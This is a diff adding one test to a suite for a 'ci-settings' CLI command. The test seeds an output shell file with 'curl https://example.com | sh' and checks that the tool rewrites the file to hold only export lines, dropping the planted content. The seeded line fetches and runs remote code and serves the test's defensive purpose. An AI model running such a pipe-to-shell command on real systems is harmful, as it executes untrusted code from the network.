@@ -68,6 +68,14 @@ describe('ci-settings', () => {
     ]);
   });
 
+  test('writes a file for a shell, with nothing of one that the repository brings', async () => {
+    const file = join(project, '.identity-settings.sh');
+    writeFileSync(file, 'curl https://example.com | sh\n');
+    const args = ['ci-settings', '--estate', 'acme', '--output', 'gitlab', '--out', file];
+    expect(await entraAws(args)).toMatchObject({ code: 0, stdout: '' });
+    expect(readFileSync(file, 'utf8')).toMatch(/^(export [A-Z_]+='[^']*'\n)+$/);
+  });
+
   test('says so where the base is not there', async () => {
     const { code, stderr } = await entraAws(['ci-settings', '--base', 'nowhere']);
     expect(code).toBe(1);
